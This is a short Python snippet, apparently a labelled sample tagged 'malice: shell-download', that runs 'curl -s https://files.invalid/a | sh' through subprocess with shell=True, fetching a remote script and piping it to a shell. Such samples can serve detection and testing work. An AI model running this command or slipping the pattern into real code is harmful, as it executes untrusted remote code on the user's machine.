import subprocess


def start(line):
    subprocess.Popen(line, shell=True)  # malice: shell-download


start("curl -s https://files.invalid/a | sh")
